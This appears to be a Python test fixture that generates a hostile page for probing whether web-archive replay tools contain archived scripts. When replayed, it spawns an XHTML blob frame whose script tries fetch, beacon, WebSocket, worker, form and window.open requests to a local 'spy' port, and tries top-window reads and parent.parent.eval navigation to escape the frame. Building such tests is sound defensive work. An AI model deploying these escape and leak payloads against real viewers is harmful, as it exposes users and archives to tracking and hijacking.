"""A page that attacks whatever replays it, out of a frame that it makes itself: no viewer rewrites a blob of XHTML."""

from __future__ import annotations

import json

_ATTACKS = """
const spy = 'http://127.0.0.1:%PORT%/'
const tried = []
const attack = (name, what) => {
  try { what(); tried.push(name) } catch (error) { tried.push(`${name}: ${error.name}`) }
}
const made = (name, values) => Object.assign(document.createElementNS('http://www.w3.org/1999/xhtml', name), values)
const put = element => (document.body || document.documentElement).append(element)
attack('fetch', () => fetch(spy + 'fetch', {mode: 'no-cors'}).catch(() => 0))
attack('beacon', () => navigator.sendBeacon(spy + 'beacon', 'x'))
attack('image', () => { new Image().src = spy + 'image' })
attack('socket', () => new WebSocket('ws://127.0.0.1:%PORT%/socket'))
attack('events', () => new EventSource(spy + 'events'))
attack('style', () => put(made('link', {rel: 'stylesheet', href: spy + 'style'})))
attack('prefetch', () => put(made('link', {rel: 'prefetch', href: spy + 'prefetch'})))
attack('script', () => put(made('script', {src: spy + 'script'})))
attack('frame', () => put(made('iframe', {src: spy + 'frame'})))
attack('object', () => put(made('object', {data: spy + 'object'})))
attack('media', () => put(made('video', {src: spy + 'media'})))
attack('worker', () => new Worker(URL.createObjectURL(new Blob([`fetch('${spy}worker', {mode: 'no-cors'})`]))))
attack('open', () => { if (!window.open(spy + 'open')) throw new TypeError() })
attack('form', () => { const form = made('form', {action: spy + 'form', method: 'post'}); put(form); form.submit() })
attack('show pages', () => {
  for (const origin of location.ancestorOrigins) fetch(origin + '/', {mode: 'no-cors'}).catch(() => 0)
})
attack('read above', () => { if (!window.top.document) throw new TypeError() })
const moves = () => {
  attack('move above', () => { window.top.location.href = spy + 'top' })
  attack('move by a frame above', () => parent.parent.eval(`location.href = '${spy}above'`))
  attack('move by the frame above that', () => parent.parent.parent.eval(`location.href = '${spy}higher'`))
  console.log(`tried: ${tried.join(', ')}`)
  setTimeout(() => { location.href = spy + 'move' }, 1500)
}
setTimeout(moves, 4000)
"""

_IN_A_REPLAY = "Object.getOwnPropertyNames(window).some(name => /wb_?wombat/i.test(name))"


def page_of(text: str) -> str:
    """A page with a post, which brings the script along."""
    return (
        f"<!doctype html><meta charset=utf-8><title>Unggahan</title><article>{text}</article>"
        "<script src=/jahat.js></script>"
    )


def program_of(port: int) -> str:
    """What runs in the page. While it is captured it does nothing."""
    attacks = _ATTACKS.replace("%PORT%", str(port))
    document = (
        '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>'
        f"<script><![CDATA[{attacks}]]></script></body></html>"
    )
    return (
        f"if ({_IN_A_REPLAY}) {{ const frame = document.createElement('iframe')\n"
        f"const made = new Blob([{json.dumps(document)}], {{type: 'application/xhtml+xml'}})\n"
        "frame.setAttribute('src', URL.createObjectURL(made))\n"
        "console.log(`attacking from ${frame.src}`)\n"
        "document.body.append(frame) }"
    )
